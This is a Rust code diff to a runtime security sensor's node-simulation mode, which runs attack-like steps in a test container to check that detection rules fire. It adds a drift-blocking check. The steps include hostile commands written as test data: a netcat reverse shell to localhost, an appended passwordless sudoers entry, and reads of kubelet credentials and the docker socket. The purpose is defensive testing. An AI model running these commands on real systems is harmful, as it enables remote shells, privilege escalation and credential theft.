@@ -36,13 +36,15 @@ struct Step {
     /// Feed the script on stdin to a plain `sh` instead of `sh -c`.
     stdin: bool,
     expect: &'static [&'static str],
+    /// The step's process must be killed by the sensor (exit status 137, before it ends).
+    killed: bool,
 }
 
-fn steps(rev_port: u16, http_port: u16) -> Vec<Step> {
-    let s = |name, script: &str, expect| Step { name, script: script.to_string(), tty: false, stdin: false, expect };
-    vec![
-        Step { name: "shell fed commands on stdin", script: "id\n".into(), tty: false, stdin: true, expect: &["PAL-SEN-001"] },
-        Step { name: "interactive shell on a terminal", script: "id".into(), tty: true, stdin: false, expect: &["PAL-SEN-005"] },
+fn steps(rev_port: u16, http_port: u16, block_drift: bool) -> Vec<Step> {
+    let s = |name, script: &str, expect| Step { name, script: script.to_string(), tty: false, stdin: false, expect, killed: false };
+    let mut v = vec![
+        Step { name: "shell fed commands on stdin", script: "id\n".into(), tty: false, stdin: true, expect: &["PAL-SEN-001"], killed: false },
+        Step { name: "interactive shell on a terminal", script: "id".into(), tty: true, stdin: false, expect: &["PAL-SEN-005"], killed: false },
         s("reverse shell to 127.0.0.1", &format!("nc 127.0.0.1 {rev_port} -e /bin/sh"), &["PAL-SEN-006", "PAL-SEN-008"]),
         s("web server spawns a shell", "exec -a sh /usr/sbin/nginx -c '/bin/sh -c id; true'", &["PAL-SEN-009"]),
         s(
@@ -80,7 +82,18 @@ fn steps(rev_port: u16, http_port: u16) -> Vec<Step> {
         s("sudoers changed", "echo 'nobody ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", &["PAL-SEN-050"]),
         s("kubelet credentials read", "cat /var/lib/kubelet/pki/kubelet-client-current.pem >/dev/null 2>&1; true", &["PAL-SEN-051"]),
         s("container runtime socket opened", "cat /var/run/docker.sock >/dev/null 2>&1; true", &["PAL-SEN-053"]),
-    ]
+    ];
+    if block_drift {
+        v.push(Step {
+            name: "drifted binary blocked",
+            script: "cp /bin/busybox /tmp/drifter && exec -a sleep /tmp/drifter 8".into(),
+            tty: false,
+            stdin: false,
+            expect: &[],
+            killed: true,
+        });
+    }
+    v
 }
 
 /// Binary drift: the execs of files written after start (payload, xmrig, nmap, kubectl).
@@ -230,7 +243,14 @@ fn listeners(stop: Arc<AtomicBool>) -> anyhow::Result<(u16, u16)> {
     Ok((rp, hp))
 }
 
-fn run_step(c: &Container, step: &Step) -> bool {
+/// Runs a step; returns its exit code (None when it could not run or timed out) and duration.
+fn run_step(c: &Container, step: &Step) -> (Option<i32>, Duration) {
+    let started = Instant::now();
+    let code = run_step_inner(c, step);
+    (code, started.elapsed())
+}
+
+fn run_step_inner(c: &Container, step: &Step) -> Option<i32> {
     // (busybox wget's -T option crashes in Debian's busybox-static 1.35: `timeout` instead)
     let mut cmd = if step.tty {
         // a real pseudo-terminal for runc exec -t (python's pty module is on every Debian host)
@@ -248,33 +268,42 @@ fn run_step(c: &Container, step: &Step) -> bool {
     };
     if step.stdin {
         let child = cmd.stdin(Stdio::piped()).stdout(Stdio::null()).stderr(Stdio::null()).spawn();
-        let Ok(mut child) = child else { return false };
+        let Ok(mut child) = child else { return None };
         if let Some(mut i) = child.stdin.take() {
             let _ = i.write_all(step.script.as_bytes());
         }
-        return child.wait().is_ok_and(|s| s.success());
+        return child.wait().ok().and_then(|s| s.code());
     }
     let child = cmd.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn();
-    let Ok(mut child) = child else { return false };
+    let Ok(mut child) = child else { return None };
     let until = Instant::now() + Duration::from_secs(15);
     loop {
         match child.try_wait() {
-            Ok(Some(_)) => return true,
+            Ok(Some(st)) => return st.code(),
             Ok(None) if Instant::now() < until => std::thread::sleep(Duration::from_millis(20)),
             _ => {
                 let _ = child.kill();
                 let _ = child.wait();
-                return false;
+                return None;
             }
         }
     }
 }
 
-pub fn run(keep: bool, wait: Duration, alerts_out: Option<PathBuf>) -> anyhow::Result<ExitCode> {
+pub fn run(keep: bool, wait: Duration, alerts_out: Option<PathBuf>, block_drift: bool) -> anyhow::Result<ExitCode> {
     palisade_sensor::check_support().context("simulate node needs root and BPF")?;
     let rs = palisade_detect::rules::RuleSet::builtin().map_err(|e| anyhow::anyhow!("built-in rules: {e:?}"))?;
     let det = palisade_detect::pipeline::Detector::new(&rs, Default::default()).map_err(|e| anyhow::anyhow!("rules: {e:?}"))?;
-    let node_cfg = NodeConfig { cluster: "simulation".into(), node: "sim-node".into(), ..NodeConfig::default() };
+    let mut node_cfg = NodeConfig { cluster: "simulation".into(), node: "sim-node".into(), ..NodeConfig::default() };
+    if block_drift {
+        // block only the drifter; the other dropped binaries must run to raise their detections
+        node_cfg.drift.rules.push(palisade_sensor::node::DriftRule {
+            name: "simulation-block".into(),
+            allowed_processes: vec!["/tmp/payload".into(), "/tmp/xmrig".into(), "/tmp/nmap".into(), "/tmp/kubectl".into()],
+            action: palisade_sensor::node::DriftAction::Block,
+            ..Default::default()
+        });
+    }
     let mut runner = Runner::start(&SensorConfig { snapshot: true, ..SensorConfig::default() }, node_cfg, &rs, det)?;
     if let Ok(p) = std::env::var("PALISADE_SIM_EVENTS") {
         runner.event_log = Some(Box::new(std::io::BufWriter::new(std::fs::File::create(&p).with_context(|| p.clone())?)));
@@ -282,9 +311,9 @@ pub fn run(keep: bool, wait: Duration, alerts_out: Option<PathBuf>) -> anyhow::R
     let stop = Arc::new(AtomicBool::new(false));
     let (rev_port, http_port) = listeners(stop.clone())?;
     let container = build_container(keep)?;
-    let steps = steps(rev_port, http_port);
+    let steps = steps(rev_port, http_port, block_drift);
     let done = Arc::new(AtomicBool::new(false));
-    let results: Arc<std::sync::Mutex<Vec<bool>>> = Arc::default();
+    let results: Arc<std::sync::Mutex<Vec<(Option<i32>, Duration)>>> = Arc::default();
     let mut found: BTreeMap<String, (String, String)> = BTreeMap::new(); // rule id -> (name, message)
     let mut log = match &alerts_out {
         Some(p) => Some(std::fs::File::create(p).with_context(|| p.display().to_string())?),
@@ -294,9 +323,9 @@ pub fn run(keep: bool, wait: Duration, alerts_out: Option<PathBuf>) -> anyhow::R
         let (c, steps_ref, done2, results2) = (&container, &steps, done.clone(), results.clone());
         scope.spawn(move || {
             for s in steps_ref {
-                let ok = run_step(c, s);
-                if let Ok(mut r) = results2.lock() {
-                    r.push(ok);
+                let r = run_step(c, s);
+                if let Ok(mut all) = results2.lock() {
+                    all.push(r);
                 }
             }
             done2.store(true, Ordering::SeqCst);
@@ -329,24 +358,36 @@ pub fn run(keep: bool, wait: Duration, alerts_out: Option<PathBuf>) -> anyhow::R
     let ran = results.lock().map(|r| r.clone()).unwrap_or_default();
     let mut missing = 0;
     let mut lines = Vec::new();
-    let mut expect_line = |id: &str, step: &str, ok_step: bool| {
-        let status = match found.get(id) {
-            Some(_) => "fired",
-            None => {
-                missing += 1;
-                "MISSING"
-            }
-        };
+    let expect_line = |lines: &mut Vec<String>, id: &str, step: &str, ok_step: bool| {
+        let status = if found.contains_key(id) { "fired" } else { "MISSING" };
         let name = rs.rules().iter().find(|r| r.id == id).map(|r| r.name.clone()).unwrap_or_else(|| "(no such rule)".into());
         let note = if ok_step { "" } else { " (step did not complete)" };
         lines.push(format!("{id:<12} {status:<8} {name}  [{step}]{note}"));
+        status == "MISSING"
     };
     for (i, s) in steps.iter().enumerate() {
         for id in s.expect {
-            expect_line(id, s.name, ran.get(i).copied().unwrap_or(false));
+            if expect_line(&mut lines, id, s.name, ran.get(i).is_some_and(|r| r.0.is_some())) {
+                missing += 1;
+            }
+        }
+        if s.killed {
+            let (code, took) = ran.get(i).copied().unwrap_or((None, Duration::ZERO));
+            let ok = code == Some(137) && took < Duration::from_secs(8);
+            if !ok {
+                missing += 1;
+            }
+            lines.push(format!(
+                "{:<12} {:<8} process killed by the drift policy  [{}] (exit {code:?} after {took:.1?})",
+                "drift-block",
+                if ok { "killed" } else { "MISSING" },
+                s.name
+            ));
         }
     }
-    expect_line(EXPECT_DRIFT, "any exec of a file written after start", true);
+    if expect_line(&mut lines, EXPECT_DRIFT, "any exec of a file written after start", true) {
+        missing += 1;
+    }
     println!("palisade simulate node: {} actions in container {} ({NAMESPACE}/{POD}, {IMAGE})", steps.len(), container.id);
     for l in &lines {
         println!("{l}");
